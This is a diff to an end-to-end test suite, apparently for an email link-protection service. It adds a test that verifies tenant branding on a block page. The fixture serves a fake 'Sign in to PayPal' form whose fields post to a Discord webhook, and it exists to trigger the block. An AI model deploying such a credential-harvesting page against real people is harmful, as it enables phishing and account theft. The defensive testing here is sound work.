@@ -261,6 +261,12 @@ def page_server() -> Iterator[str]:
     class Page(http.server.BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             body = b"<!doctype html><title>Docs</title><h1>Release notes</h1><p>Nothing to sign in to.</p>"
+            if self.path.startswith("/signin"):  # a credential page that posts to a chat webhook
+                body = (
+                    b"<!doctype html><title>Sign in to PayPal</title><h1>PayPal</h1>"
+                    b"<form action='https://discord.com/api/webhooks/1/x' method='post'>"
+                    b"<input name='email'><input type='password' name='pw'><button>Log in</button></form>"
+                )
             self.send_response(200)
             self.send_header("Content-Type", "text/html; charset=utf-8")
             self.send_header("Content-Length", str(len(body)))
@@ -300,6 +306,39 @@ def test_click_on_a_rewritten_link_through_the_host(stack: Stack, page_server: s
     forged = link.replace("/notes/2026", "/evil")
     r = requests.get(forged, allow_redirects=False, timeout=30)
     assert r.status_code >= 400 and "Location" not in r.headers
+
+
+def test_block_page_carries_the_tenants_branding_from_its_policy(stack: Stack, page_server: str) -> None:
+    from connectors.service.runtime import get_runtime
+    from tap_core.click.scanner import DELIVERY_WINDOW_SECONDS
+
+    runtime = Runtime.create()
+    branding = {"name": "Contoso <Security>", "support_contact": "servicedesk@contoso.example"}
+    runtime.stores.policies.put_policy(stack.tenant_id, {"branding": branding}, etag=None, updated_by="test")
+    get_runtime().forget_policy(stack.tenant_id)  # the host runs in this process
+    try:
+        upn = stack.users[1]
+        raw = (
+            f"From: Payments <pay@partner.example>\nTo: {upn}\nSubject: account\n"
+            f"Message-ID: <e2e-brand@x.test>\nContent-Type: text/html\n\n"
+            f'<p>Please <a href="{page_server}/signin?id=7">review</a>.</p>\n'
+        ).encode()
+        stack.sim.deliver(upn, raw)
+        wait_for(lambda: journal_done(stack, upn, "<e2e-brand@x.test>"), what="processing")
+        _, message = find_message(stack, upn, "<e2e-brand@x.test>")
+        body = json.dumps(message)
+        start = body.index(f"{stack.functions_url}/api/r/1.")
+        link = body[start : body.index('\\"', start)].replace("&amp;", "&")
+        # A click within seconds of delivery is a scanner's, which is never sent to fetch the page.
+        time.sleep(DELIVERY_WINDOW_SECONDS + 0.5)
+        r = requests.get(link, allow_redirects=False, timeout=60,
+                         headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept-Language": "en"})
+    finally:  # back to the default policy for whatever runs next
+        doc = runtime.stores.policies.get_policy(stack.tenant_id)
+        runtime.stores.policies.put_policy(stack.tenant_id, {}, etag=doc.etag if doc else None, updated_by="test")
+        get_runtime().forget_policy(stack.tenant_id)
+    assert r.status_code in (200, 403) and "Location" not in r.headers, r.status_code
+    assert "Contoso &lt;Security&gt;" in r.text and "servicedesk@contoso.example" in r.text
 
 
 @pytest.fixture(scope="module")
